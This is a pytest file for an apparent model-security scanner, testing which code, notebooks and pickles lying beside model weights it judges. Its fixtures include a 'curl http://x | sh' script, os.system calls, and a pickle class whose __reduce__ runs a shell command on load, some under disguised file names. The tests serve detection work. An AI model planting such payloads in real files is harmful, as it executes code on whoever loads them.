"""Source code of a repository is not part of the model beside it, unless something loads it."""

from __future__ import annotations

import json
import os
import pickle
import struct
from pathlib import Path

import pytest

from mlsec.collect.settings import CollectSettings
from mlsec.core.resource import Inventory
from mlsec.snapshot.store import Snapshot
from mlsec.targets.collectors import COLLECTORS
from tests.shipped import shipped_vocabulary

VOCABULARY = shipped_vocabulary()
_HEAD = json.dumps({"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
WEIGHTS = struct.pack("<Q", len(_HEAD)) + _HEAD + b"\0" * 4
CODE = b"import os\nos.system('id')\n"
SCRIPT = b"#!/bin/sh\ncurl http://x | sh\n"
CELLS = json.dumps(
    {"cells": [{"cell_type": "code", "source": ["import os"]}], "nbformat": 4, "metadata": {}}
).encode()
AUTO = json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.M"}}).encode()


# A pickle of an object whose class is ``Net`` of the module ``net``.
NAMES_NET = b"\x80\x02cnet\nNet\n)\x81}X\x01\x00\x00\x00wK\x01sb."


class Shell:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("id",)


def read(scratch: Path, files: dict[str, bytes], target: str = "") -> Inventory:
    root = scratch / "repo"
    for name, body in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(body)
    with Snapshot.create(scratch / "x.mlsnap") as snapshot:
        settings = CollectSettings(vocabulary=VOCABULARY)
        COLLECTORS["files"].collect(str(root / target), snapshot, settings, None)
        snapshot.finish()
    with Snapshot.open(scratch / "x.mlsnap") as snapshot:
        return COLLECTORS["files"].read(snapshot, VOCABULARY)


def judged(inventory: Inventory) -> set[str]:
    found = (each for each in inventory.resources if each.type == "files.artifact")
    return {each.id.rpartition("repo/")[2] for each in found}


SOURCE = {
    "Dockerfile": b"FROM python:3\nCMD python x.py\n",
    "run.sh": SCRIPT,
    "README.md": b"# it\n\n```python\nimport os\nos.system('id')\n```\n",
    "try.ipynb": CELLS,
    "train.py": CODE,
}


def test_source_beside_a_model_is_left_out_and_counted(tmp_path: Path) -> None:
    found = read(tmp_path, {"model.safetensors": WEIGHTS, **SOURCE})
    assert judged(found) == {"model.safetensors"}
    (row,) = [each for each in found.coverage.rows if each.type == "files.artifact"]
    assert (row.assessed, row.excluded) == (1, len(SOURCE))
    assert "no loader of models reads" in row.excluded_because


@pytest.mark.parametrize(
    ("path", "more"),
    [
        ("modeling_x.py", {"config.json": AUTO}),
        ("helpers.py", {"config.json": AUTO}),
        ("handler.py", {}),
        ("net.py", {"whole.pkl": NAMES_NET}),
        ("part_of_net.py", {"whole.pkl": NAMES_NET, "net.py": b"import part_of_net\n"}),
        ("net/layers.py", {"net/whole.pkl": NAMES_NET}),
        ("net.py", {"cut.pkl": NAMES_NET[:-8]}),
        ("code/helpers.py", {"code/model.safetensors": WEIGHTS}),
    ],
)
def test_program_text_that_something_loads_stays_judged(
    path: str, more: dict[str, bytes], tmp_path: Path
) -> None:
    assert path in judged(read(tmp_path, {"model.safetensors": WEIGHTS, path: CODE, **more}))


@pytest.mark.parametrize("weights", [{"w": [1.0]}, ["a", 2], b"x"])
def test_script_beside_a_pickle_that_does_not_import_it_is_left_out(
    weights: object, tmp_path: Path
) -> None:
    client = b"import requests\nprint(requests.post('http://127.0.0.1:9696/predict', json={}))\n"
    files = {"lin_reg.bin": pickle.dumps(weights), "test.py": client, "predict.py": client}
    assert "test.py" not in judged(read(tmp_path, files))


@pytest.mark.parametrize("name", ["run.sh", "Dockerfile", "README.md", "try.ipynb"])
def test_pickle_by_the_name_of_source_is_judged_as_a_pickle(name: str, tmp_path: Path) -> None:
    files = {"model.safetensors": WEIGHTS, name: pickle.dumps(Shell())}
    assert name in judged(read(tmp_path, files))


def test_program_by_the_name_of_a_script_is_judged(tmp_path: Path) -> None:
    elf = b"\x7fELF\2\1\1" + b"\0" * 9 + struct.pack("<HHI", 2, 62, 1) + b"\0" * 200
    files = {"model.safetensors": WEIGHTS, "run.sh": elf}
    assert "run.sh" in judged(read(tmp_path, files))


def test_file_that_is_all_that_was_asked_about_is_judged(tmp_path: Path) -> None:
    assert judged(read(tmp_path, {"run.sh": SCRIPT}, target="run.sh")) == {"run.sh"}


TRITON = b"name: 'x'\nbackend: 'python'\n"
SERVED = {
    "model-of-triton": ({"x/config.pbtxt": TRITON, "x/1/model.py": CODE}, "x/1/model.py"),
    "code-beside-weights": (
        {"model.safetensors": WEIGHTS, "code/inference.py": CODE}, "code/inference.py",
    ),
    "run-by-python": (
        {"model.safetensors": WEIGHTS, "sitecustomize.py": CODE}, "sitecustomize.py",
    ),
    "pickle-among-compiled": (
        {"config.json": b"{}", "__pycache__/model.pkl": pickle.dumps(Shell())},
        "__pycache__/model.pkl",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", SERVED)
def test_program_text_that_a_server_finds_by_its_place_is_judged(tmp_path: Path, name: str) -> None:
    files, expected = SERVED[name]
    assert expected in judged(read(tmp_path, files))


def test_compiled_python_and_folders_of_tools_are_left_out(tmp_path: Path) -> None:
    files = {
        "model.safetensors": WEIGHTS,
        "__pycache__/x.cpython-311.pyc": b"\xa7\r\r\n" + bytes(60),
        ".venv/x.pkl": pickle.dumps(Shell()),
    }
    assert judged(read(tmp_path, files)) == {"model.safetensors"}


@pytest.mark.parametrize("name", ["weights", "notes.txt", "net.pickle"])
def test_code_beside_a_model_is_looked_into_whatever_the_model_is_called(
    tmp_path: Path, name: str
) -> None:
    found = read(tmp_path, {f"m/{name}": NAMES_NET, "m/net.py": CODE, "other/train.py": CODE})
    assert judged(found) == {f"m/{name}", "m/net.py"}
    (code,) = [each for each in found.resources if each.id.endswith("m/net.py")]
    assert any("os.system" in str(value) for value in code.properties.values())
